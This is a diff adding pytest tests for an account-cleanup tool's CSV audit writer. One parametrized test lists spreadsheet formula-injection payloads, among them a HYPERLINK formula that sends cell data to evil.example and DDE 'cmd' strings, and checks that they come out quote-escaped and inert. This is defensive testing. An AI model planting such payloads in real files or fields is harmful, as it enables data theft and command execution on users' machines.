@@ -93,3 +93,74 @@ def test_manifest_records_which_policy_produced_the_file(tmp_path):
     on_disk = json.loads((tmp_path / (manifest.csv_file.removesuffix(".csv") + ".manifest.json")).read_text())
     assert on_disk["policy_sha256"] == manifest.policy_sha256
     assert verify_audit(manifest.csv_path).policy_sha256 == manifest.policy_sha256
+
+
+def test_audit_rows_join_results_api_status_and_timestamps(tmp_path):
+    from atlassian_cleanup.audit import audit_rows
+
+    plan = [
+        _row("done1", proposed_action="suspend"),
+        _row("fail1", proposed_action="suspend"),
+        _row("dry1", proposed_action="warn"),
+        _row("gate1", proposed_action="delete"),
+        _row("none1"),
+    ]
+    outcomes = {
+        "done1": "done: suspended",
+        "fail1": "failed: HTTP 500 from Atlassian",
+        "dry1": "dry run: would email dry1",
+    }
+    journal = {
+        "done1": {"api_status": 204, "intent_at": "2026-11-26T00:00:01Z", "result_at": "2026-11-26T00:00:02Z"}
+    }
+    rows = {row["account_id"]: row for row in audit_rows(plan, outcomes, journal)}
+    assert {k: v["result"] for k, v in rows.items()} == {
+        "done1": "done",
+        "fail1": "failed",
+        "dry1": "planned",
+        "gate1": "not_run",
+        "none1": "no_action",
+    }
+    assert rows["done1"]["api_status"] == 204
+    assert rows["done1"]["result_at"] == "2026-11-26T00:00:02Z"
+    assert rows["gate1"]["outcome"] == "no action"
+    assert rows["gate1"]["api_status"] is None
+
+    manifest = write_audit(
+        rows.values(),
+        tmp_path,
+        run_id="r1",
+        as_of="2026-11-26",
+        mode="live",
+        logical_date="2026-11-25T00:00:00Z",
+    )
+    with open(manifest.csv_path, encoding="utf-8", newline="") as handle:
+        written = {r["account_id"]: r for r in csv.DictReader(handle)}
+    assert written["done1"]["api_status"] == "204"
+    assert written["done1"]["logical_date"] == "2026-11-25T00:00:00Z"
+    assert written["fail1"]["result"] == "failed"
+    assert manifest.logical_date == "2026-11-25T00:00:00Z"
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_formula_payloads_in_names_come_out_inert_in_the_file(tmp_path, name):
+    manifest = write_audit(
+        [_row("x1", name=name, email=name)], tmp_path, run_id="r", as_of="2026-11-26", mode="live"
+    )
+    with open(manifest.csv_path, encoding="utf-8", newline="") as handle:
+        (written,) = list(csv.DictReader(handle))
+    # A leading quote makes every spreadsheet show the text instead of evaluating it; the payload
+    # itself is kept, so the auditor still sees exactly what the account was called.
+    assert written["name"] == "'" + name
+    assert written["email"] == "'" + name
+    assert not written["name"].startswith(("=", "+", "-", "@", "\t", "\r"))
